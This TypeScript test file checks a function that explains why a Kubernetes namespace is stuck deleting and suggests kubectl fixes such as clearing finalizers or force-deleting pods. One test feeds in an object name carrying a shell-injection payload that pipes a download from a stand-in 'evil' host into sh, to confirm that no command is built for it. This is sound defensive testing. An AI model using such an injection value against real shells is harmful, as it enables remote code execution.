import type { StoredObject } from '@okeanos/backstage-plugin-oke-node';
import { describeTermination, isHeldByContent } from './describeTermination';

const LIVE = {
  apiVersion: 'v1',
  kind: 'Namespace',
  metadata: { name: 'shop', uid: 'u', resourceVersion: '1' },
};

const terminating = (...conditions: [type: string, message: string][]) => ({
  ...LIVE,
  status: {
    conditions: conditions.map(([type, message]) => ({
      ...{ type, message, status: 'True', reason: 'X' },
    })),
  },
});

const thing = (
  apiVersion: string,
  kind: string,
  name: string,
  metadata: object = {},
): StoredObject => ({
  ...{ apiVersion, kind },
  metadata: {
    ...{ name, uid: name, resourceVersion: '1' },
    deletionTimestamp: '2026-11-28T12:00:00Z',
    ...metadata,
  },
});

const HELD = terminating([
  'NamespaceFinalizersRemaining',
  'Some content in the namespace has finalizers remaining: a.b/c in 1 resource instances',
]);

describe('describeTermination', () => {
  it('says no more than that, while nothing holds it up', () => {
    const live = terminating();
    expect(isHeldByContent(live)).toBe(false);
    expect(describeTermination(live, undefined)).toEqual({
      message: 'the namespace is being deleted',
      commands: [],
    });
  });

  it('names each object that a finalizer holds, with the command that takes it away', () => {
    expect(isHeldByContent(HELD)).toBe(true);
    const objects = [
      thing('v1', 'ConfigMap', 'lock', { finalizers: ['a.b/c'] }),
      thing('cert-manager.io/v1', 'Certificate', 'x', {
        finalizers: ['d.e/f'],
      }),
      thing('v1', 'Service', 'lb', {
        finalizers: ['service.kubernetes.io/load-balancer-cleanup'],
      }),
      thing('v1', 'Secret', 'stays', {
        ...{ finalizers: ['g.h/i'], deletionTimestamp: undefined },
      }),
    ];
    const told = describeTermination(HELD, { objects, unread: [] });
    expect(told.message).toMatch(
      /ConfigMap lock is held by a\.b\/c: .*Certificate x is held by d\.e\/f: /,
    );
    expect(told.commands).toEqual([
      `kubectl --namespace=shop patch configmap/lock --type=merge --patch='{"metadata":{"finalizers":null}}'`,
      `kubectl --namespace=shop patch certificate.cert-manager.io/x --type=merge --patch='{"metadata":{"finalizers":null}}'`,
    ]);
    // The cloud controller takes this one away; and that one is not going.
    expect(told.message).not.toMatch(/Service lb|Secret stays/);
  });

  it('gives no command for a name that a shell could take for more', () => {
    const name = "x'; curl evil | sh; '";
    const role = thing('rbac.authorization.k8s.io/v1', 'Role', name, {
      finalizers: ['a.b/c'],
    });
    const told = describeTermination(HELD, { objects: [role], unread: [] });
    expect(told.message).toContain(`Role ${name} is held by a.b/c`);
    expect(told.commands).toEqual([]);
  });

  it('tells some of many, and how many more there are', () => {
    const objects = Array.from({ length: 7 }, (_, index) =>
      thing('v1', 'ConfigMap', `lock-${index}`, { finalizers: ['a.b/c'] }),
    );
    const told = describeTermination(HELD, { objects, unread: [] });
    expect(told.message.match(/is held by/g)).toHaveLength(3);
    expect(told.message).toContain('and 4 more in the same way');
    expect(told.commands).toHaveLength(3);
  });

  it('names pods that do not end', () => {
    const live = terminating(['NamespaceContentRemaining', 'pods. has 1']);
    const told = describeTermination(live, {
      objects: [thing('v1', 'Pod', 'cart-0')],
      unread: [{ what: 'Widget (a.b/v1)', reason: 'it is broken' }],
    });
    expect(told.message).toContain('Pod cart-0 is still ending');
    expect(told.commands).toEqual([
      'kubectl --namespace=shop delete pod cart-0 --force --grace-period=0',
    ]);
    expect(told.message).toContain('what could not be read: Widget (a.b/v1)');
  });

  it('says what Kubernetes says when it could not be looked at what remains', () => {
    expect(describeTermination(HELD, undefined).message).toBe(
      'the namespace is being deleted: Some content in the namespace has finalizers remaining: a.b/c in 1 resource instances',
    );
  });

  it.each([
    [
      'NamespaceDeletionDiscoveryFailure',
      'Discovery failed for some groups, 1 failing: unable to retrieve the complete list of server APIs: custom.metrics.k8s.io/v1beta1: stale GroupVersion discovery',
      'kubectl get apiservices v1beta1.custom.metrics.k8s.io',
    ],
    [
      'NamespaceDeletionDiscoveryFailure',
      'Discovery failed',
      'kubectl get apiservices',
    ],
    [
      'NamespaceDeletionContentFailure',
      'Failed to delete all resource types, 1 remaining: failed calling webhook "x.y.z"',
      'kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations',
    ],
  ])('tells of %s where to look', (type, message, command) => {
    const told = describeTermination(terminating([type, message]), undefined);
    expect(told.message).toContain(message);
    expect(told.commands).toEqual([command]);
  });
});
